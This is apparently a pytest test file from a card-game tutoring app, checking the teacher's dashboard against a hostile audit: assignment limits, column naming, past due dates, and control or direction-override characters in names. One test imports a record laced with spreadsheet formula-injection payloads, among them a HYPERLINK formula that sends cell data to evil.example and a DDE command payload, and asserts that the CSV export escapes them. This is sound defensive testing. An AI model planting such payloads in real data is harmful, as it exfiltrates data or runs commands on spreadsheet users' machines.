"""The teacher's view under a hostile audit (issue 30, docs/classes.md): many assignments, titles that read as
the learners' table's own columns, formula text in a learner's imported record, control characters in a
class's name or an assignment's title, due dates in the past.

- An assignment's status is what :func:`classes.status` defines over every answer of the learner, here on
  seeded records with many assignments of every kind of item; the work of finding them grows with the
  answers and the items, not the one times the other (counted, never timed: 20 learners with 2,000 answers
  and 20 assignments of 10 laws took 7-18 s a run), and it is done once per learner for both reports.
- A class has at most :data:`classes.MAX_ASSIGNMENTS` assignments.
- Each assignment has a column of its own in the learners' table, beside the table's own columns.
- The class's CSV writes every text cell a spreadsheet would run as a formula as text
  (:func:`~tutor.lessons.progress.progress_io.spreadsheet_cell`'s rule: a cell starting with = + - @, a tab
  or a carriage return).
- A name or a title holds none of the stored text's control characters, no line or paragraph separator,
  no direction override, and something that shows.
- An assignment is due today or later."""

from __future__ import annotations

import csv
import io
import json
import random
import uuid
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import class_app
import pytest
from app_pages import app_test
from class_app import sign_in

from tutor.engine.errors import TutorError
from tutor.lessons.answers import MARKED_LEARNED, Answer, marked_learned
from tutor.lessons.classroom import accounts as acc
from tutor.lessons.classroom import classes as cls
from tutor.lessons.classroom import dashboard
from tutor.lessons.progress import ProgressStore, open_store, to_ts
from tutor.lessons.progress.columns import control_character
from tutor.lessons.progress.schema import StoredAnswer

cheap_codes = class_app.cheap_codes
db = class_app.db
TEACHER = "tutor/ui/pages/teacher.py"
LAWS = ("law-12", "law-13", "law-14", "law-15", "law-35")
#: every kind of item an assignment names, as answers record them (assign takes them as given)
ITEMS = (*(("law", law) for law in LAWS), *(("convention", f"convention-{n}") for n in range(3)),
         *(("quiz", f"quiz-{n}") for n in range(3)), ("scoring", "scoring-0"), ("solo", "solo-0"),
         ("drill", "lead"), ("drill", "bidding"), ("drill", "discard"), *(("table", str(n)) for n in range(4)))


_account = class_app.account_named


def _class(store: ProgressStore, names: tuple[str, ...],
           codes: dict[str, str] | None = None) -> tuple[acc.Account, cls.Class]:
    """Mrs Orlova's Thursday club of ``names``; ``codes``, if given, gets each account's quick-login code."""
    made_codes = {"Mrs Orlova": acc.create_account(store, "Mrs Orlova", "teacher")}
    teacher = _account(store, "Mrs Orlova")
    made = cls.create_class(store, teacher, "Thursday club")
    for name in names:
        made_codes[name] = acc.create_account(store, name, "learner", by=teacher)
        cls.join(store, _account(store, name), made.join_code, consent=True)
    if codes is not None:
        codes.update(made_codes)
    return teacher, made


def _assign_at(store: ProgressStore, teacher: acc.Account, made: cls.Class, title: str, items: list[tuple[str, str]],
               created: datetime, due: datetime, learner: str | None = None) -> None:
    """An assignment set at ``created`` (in the past, or later than now), due at ``due``: set now, then dated."""
    task = cls.assign(store, teacher, made.id, title, items, datetime.now(UTC) + timedelta(days=1), learner=learner)
    with store.writing() as conn:
        conn.execute("UPDATE assignments SET created_at = ?, due = ? WHERE id = ?", (to_ts(created), to_ts(due), task.id))


def _answer(rng: random.Random) -> Answer:
    """Any answer an item can match or not: a law by its item or by a law it cites, a convention drill of a kind
    (or none), a quiz, scoring and Solo Whist answer, the table's decisions (of a rubber number, with a drill's
    kind that must not count for a drill item); retries and laws marked learned, which count for nothing."""
    right = rng.random() < 0.5
    laws = tuple(rng.sample(LAWS, rng.randrange(3)))
    roll = rng.random()
    if roll < 0.04:  # noqa: PLR2004
        return marked_learned(rng.choice(LAWS))
    if roll < 0.06:  # noqa: PLR2004
        return Answer("law", rng.choice(LAWS), True, MARKED_LEARNED, MARKED_LEARNED, laws=laws[:1])
    if roll < 0.25:  # noqa: PLR2004
        return Answer("play", "lead", right, "SA", "SK", laws=laws, seed=rng.randrange(5),
                      extra={"source": "table", "kind": rng.choice(("lead", "discard"))},
                      key=f"table:deal-{rng.randrange(3)}:{uuid.uuid4().hex}", retry=rng.random() < 0.1)
    kind = rng.choice(("law", "law", "convention", "quiz", "scoring", "solo"))
    item = rng.choice(LAWS) if kind == "law" else f"{kind}-{rng.randrange(4)}"
    extra = {"kind": rng.choice(("lead", "bidding", "discard"))} if kind == "convention" and rng.random() < 0.6 else {}
    return Answer(kind, item, right, "4", "5", laws=() if kind == "law" and rng.random() < 0.3 else laws,
                  seed=rng.randrange(5), extra=extra, retry=rng.random() < 0.1)


def _seed(store: ProgressStore, teacher: acc.Account, made: cls.Class, names: tuple[str, ...],
          now: datetime) -> int:
    """40 assignments of 1 to 8 items of every kind, set over the 60 days before ``now`` (two after every answer),
    some to one learner; 300 answers each for the first two learners over the 90 days before ``now``, some
    at the very instant an assignment was set. Returns the answers written."""
    rng = random.Random(30)
    created = []
    for n in range(40):
        at = now - timedelta(minutes=rng.randrange(60 * 24 * 60)) if n < 38 else now + timedelta(minutes=n)  # noqa: PLR2004
        due = at + timedelta(hours=rng.randrange(1, 90 * 24))  # many past due at ``now``, some not
        _assign_at(store, teacher, made, f"task {n}", rng.sample(ITEMS, rng.randrange(1, 9)), at, due,
                   learner=names[0] if n % 7 == 0 else None)
        created.append(at)
    answers = []
    for name in names[:2]:
        for n in range(300):
            at = (rng.choice(created) if n % 25 == 0
                  else now - timedelta(minutes=rng.randrange(90 * 24 * 60)))
            answers.append(StoredAnswer(0, uuid.uuid4().hex, name, min(at, now), _answer(rng)))
    store.import_record([(name, to_ts(now - timedelta(days=100))) for name in names], answers)
    return len(answers)


def _counting(calls: Counter[str], name: str, inner: Callable[..., Any]) -> Callable[..., Any]:
    def counted(*args: Any) -> Any:
        calls[name] += 1
        return inner(*args)
    return counted


def test_statuses_are_the_definition_over_every_answer_found_once_and_in_linear_work(store: ProgressStore) -> None:
    names = ("anna", "boris", "clara")  # clara answers nothing
    teacher, made = _class(store, names)
    now = datetime.now(UTC)
    written = _seed(store, teacher, made, names, now)
    later = now + timedelta(hours=3)
    calls: Counter[str] = Counter()
    read: list[int] = []
    answers = ProgressStore.answers

    def counted(self: ProgressStore, learner: str | None = None, since: datetime | None = None) -> list[StoredAnswer]:
        found = answers(self, learner, since)
        read.append(len(found))
        return found

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ProgressStore, "answers", counted)
        patch.setattr(cls, "_matches", _counting(calls, "_matches", cls._matches))
        # an answer indexed by what an item can match is an answer examined
        patch.setattr(cls, "_keys", _counting(calls, "_keys", getattr(cls, "_keys", None)), raising=False)
        view = dashboard.class_view(store, teacher, made.id, 7, now=later)
    items = sum(len(a.items) for r in view.whole for a in view.tasks if a.id in r.statuses)
    # the work grows with the answers read and the items, not with their product (before: every item asked of
    # every answer, for each assignment; 2,000 answers and 200 items is 400,000 checks a learner, each report)
    assert calls["_matches"] + calls["_keys"] <= sum(read) + items, (calls, sum(read), items)
    # each learner's answers are read once for the statuses, shared by the whole record's report and the period's
    assert len(read) == len(names) and sum(read) <= written, read
    seen: Counter[str] = Counter()
    for whole, period, name in zip(view.whole, view.period, names, strict=True):
        every = store.answers(name)
        expected = {a.id: cls.status(a, every, later) for a in view.tasks if a.learner in (None, name)}
        assert whole.statuses == expected and period.statuses == expected, name
        seen.update(expected.values())
    for days in (None, 1):  # and as any report reads them, whatever the period
        for report, name in zip(dashboard.class_view(store, teacher, made.id, days, now=later).period, names,
                                strict=True):
            every = store.answers(name)
            assert report.statuses == {a.id: cls.status(a, every, later) for a in view.tasks
                                       if a.learner in (None, name)}, (name, days)
    # what the seeds gave: every status, and assignments to one learner among them
    assert set(seen) == {"new", "in progress", "complete", "overdue"}, seen
    assert len(view.whole[0].statuses) > len(view.whole[1].statuses) == 34, view.whole[1].statuses  # noqa: PLR2004


def test_a_class_has_a_bounded_number_of_assignments(tmp_path: Path) -> None:
    with open_store(tmp_path / "p.sqlite3") as store:
        teacher, made = _class(store, ("anna",))
        other = cls.create_class(store, teacher, "Friday club")
        due = datetime.now(UTC) + timedelta(days=3)
        for n in range(cls.MAX_ASSIGNMENTS):  # the class's and one learner's count alike
            cls.assign(store, teacher, made.id, f"task {n}", [("law", "law-12")], due, learner="anna" if n % 2 else None)
        with pytest.raises(TutorError, match=f"at most {cls.MAX_ASSIGNMENTS} assignments") as refused:
            cls.assign(store, teacher, made.id, "one more", [("law", "law-12")], due)
        assert "\n" not in str(refused.value)
        assert len(cls.assignments(store, made.id)) == cls.MAX_ASSIGNMENTS  # nothing written
        cls.assign(store, teacher, other.id, "elsewhere", [("law", "law-12")], due)  # another class has its own


def test_each_assignment_has_a_column_of_its_own_beside_the_learners_tables_columns(db: Path) -> None:
    """A title was the column's name: "learner" and "answers" replaced those columns, and two assignments called
    "Homework" showed as one."""
    now = datetime.now(UTC)
    with open_store(db) as store:
        codes: dict[str, str] = {}
        teacher, made = _class(store, ("anna", "bob"), codes)
        due = now + timedelta(days=3)
        titled = [("learner", "law 12", due, now), ("answers", "law 13", due, now),
                  ("Homework", "law 14", now - timedelta(days=8), now - timedelta(days=9)),  # set 9 days ago: overdue
                  ("Homework", "law 15", due, now), ("Homework", "law 16", due, now)]
        for title, items, when, at in titled:
            _assign_at(store, teacher, made, title, list(cls.parse_items(items)), at, when)
        store.record(Answer("law", "law-12", True, "5", "5", laws=("law-12",)), "anna")
        store.record(Answer("law", "law-15", False, "4", "5", laws=("law-15",)), "anna")
        store.record(Answer("law", "law-15", False, "4", "5", laws=("law-15",)), "bob")
    at = app_test()
    at.run()
    sign_in(at, "Mrs Orlova", codes["Mrs Orlova"])
    at.switch_page(TEACHER)
    at.run()
    assert not at.exception, at.exception
    table = next(d.value for d in at.dataframe if "drills" in d.value.columns)
    own = ["learner", "answers", "right", "mastered", "reviews due", "drills", "table deals", "deviations",
           "mistakes by law"]
    assert list(table.columns[:len(own)]) == own and len(set(table.columns)) == len(table.columns) == len(own) + 5
    assert list(table["learner"]) == ["anna", "bob"] and list(table["answers"]) == [2, 1]
    # each assignment's column: under its title, with its statuses (anna, bob), from the definition
    shown = sorted((next(t for t, *_ in titled if str(c).startswith(t)), tuple(table[c]))
                   for c in table.columns[len(own):])
    assert shown == sorted([("learner", ("complete", "new")), ("answers", ("new", "new")),
                            ("Homework", ("overdue", "overdue")), ("Homework", ("in progress", "in progress")),
                            ("Homework", ("new", "new"))]), table.to_string()


def test_the_class_csv_writes_every_formula_a_learner_imported_as_text(store: ProgressStore) -> None:
    """A learner imports their own record (the Progress page allows it) with formulas in every text the
    record holds; the teacher's CSV wrote all but the given and expected answers as they were."""
    from tutor.lessons.progress.progress_io import import_bytes

    teacher, made = _class(store, ("anna",))
    formulas = {"item_kind": "=1+2", "item_id": '=HYPERLINK("http://evil.example/?x="&A2,"click")',
                "given": "+1+1", "expected": "-2+3", "laws": "@SUM(1,2)", "source": "-cmd|' /C calc'!A0"}
    record = {"format": "vint-tutor-progress", "schema_version": 8,
              "learners": [{"name": "anna", "created_at": "2026-01-01T00:00:00Z"}],
              "answers": [{"uid": "abcdefgh0001", "learner": "anna", "answered_at": "2026-06-01T00:00:00Z",
                           "item_kind": formulas["item_kind"], "item_id": formulas["item_id"], "correct": False,
                           "given": formulas["given"], "expected": formulas["expected"], "laws": [formulas["laws"]],
                           "extra": {"source": formulas["source"]}},
                          {"uid": "abcdefgh0002", "learner": "anna", "answered_at": "2026-06-02T00:00:00Z",
                           "item_kind": "law", "item_id": "law-12", "correct": True, "given": "5",
                           "expected": "5", "laws": ["law-12"], "extra": {}}]}
    assert import_bytes(store, json.dumps(record).encode(), "mine.json", only="anna") == 2  # noqa: PLR2004
    rows = list(csv.reader(io.StringIO(dashboard.class_csv(store, teacher, made.id))))
    assert rows[0] == list(dashboard.CSV_COLUMNS) and len(rows) == 3  # noqa: PLR2004
    for row in rows[1:]:
        for column, cell in zip(rows[0], row, strict=True):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)  # spreadsheet_cell's rule
    first = dict(zip(rows[0], rows[1], strict=True))
    assert {column: first[column] for column in formulas} == {c: "'" + text for c, text in formulas.items()}
    plain = dict(zip(rows[0], rows[2], strict=True))  # an ordinary answer is written as it is
    assert (plain["item_kind"], plain["item_id"], plain["laws"], plain["source"]) == ("law", "law-12", "law-12", "")


#: what the audit found accepted: DEL, C1 characters (CSI, NEL), a direction override, the line and paragraph
#: separators, a direction isolate, an escape, a name that shows nothing
UNSHOWABLE = ["a\x7fb", "a\x9b2Jb", "a\x85b", "\u202eevil", "a\u2028b", "\u2028x", "a\u2029b", "\u2066x\u2069",
              "x\x1b[2Jy", "\u200b", " \u200b\u200d "]


@pytest.mark.parametrize("text", UNSHOWABLE)
def test_a_name_or_title_holds_no_control_character_and_shows_something(tmp_path: Path, text: str) -> None:
    with open_store(tmp_path / "p.sqlite3") as store:
        teacher, made = _class(store, ())
        with pytest.raises(TutorError, match="^a class's name: ") as named:
            cls.create_class(store, teacher, text)
        with pytest.raises(TutorError, match="^an assignment's title: ") as titled:
            cls.assign(store, teacher, made.id, text, [("law", "law-12")], datetime.now(UTC) + timedelta(days=1))
        assert "\n" not in str(named.value) + str(titled.value)
        assert [c.name for c in cls.classes_of(store, teacher)] == ["Thursday club"]
        assert cls.assignments(store, made.id) == []


def test_the_refused_characters_include_the_stored_texts_own_check() -> None:
    """What ``columns.control_character`` refuses in a stored text is refused here too (the audit's texts)."""
    assert all(control_character(t) for t in ("a\x7fb", "a\x9b2Jb", "a\x85b", "x\x1b[2Jy"))
    for n in (*range(0x20), *range(0x7F, 0xA0)):
        with pytest.raises(TutorError, match="control"):
            cls._text(f"a{chr(n)}b", "a class's name")
    assert cls._text("  Clase de los jueves — ♠ ", "a class's name") == "Clase de los jueves — ♠"


def test_an_assignment_is_due_today_or_later(tmp_path: Path) -> None:
    today = datetime.now().date()

    def local(day: date, at: time) -> datetime:  # as the page sets it: that day's time, here
        return datetime.combine(day, at).astimezone(UTC)

    with open_store(tmp_path / "p.sqlite3") as store:
        teacher, made = _class(store, ())
        for past in (local(today - timedelta(days=1), time(23, 59)), datetime(1, 1, 2, tzinfo=UTC)):
            with pytest.raises(TutorError, match="past") as refused:
                cls.assign(store, teacher, made.id, "late", [("law", "law-12")], past)
            assert "\n" not in str(refused.value)
        assert cls.assignments(store, made.id) == []
        cls.assign(store, teacher, made.id, "today", [("law", "law-12")], local(today, time(23, 59)))
        cls.assign(store, teacher, made.id, "next week", [("law", "law-12")], local(today + timedelta(days=7), time()))
        assert [a.title for a in cls.assignments(store, made.id)] == ["today", "next week"]


def test_the_page_refuses_a_due_date_in_the_past(db: Path) -> None:
    with open_store(db) as store:
        codes: dict[str, str] = {}
        _, made = _class(store, (), codes)
    at = app_test()
    at.run()
    sign_in(at, "Mrs Orlova", codes["Mrs Orlova"])
    at.switch_page(TEACHER)
    at.run()
    at.text_input(key="teacher_assign_title").input("Yesterday's")
    at.text_area(key="teacher_assign_items").input("law 12")
    at.date_input(key="teacher_assign_due").set_value(datetime.now().date() - timedelta(days=1))
    at.button[[b.label for b in at.button].index("Set it")].click()
    at.run()
    assert not at.exception, at.exception
    assert at.error and "past" in at.error[0].value and not at.success
    with open_store(db) as store:
        assert cls.assignments(store, made.id) == []
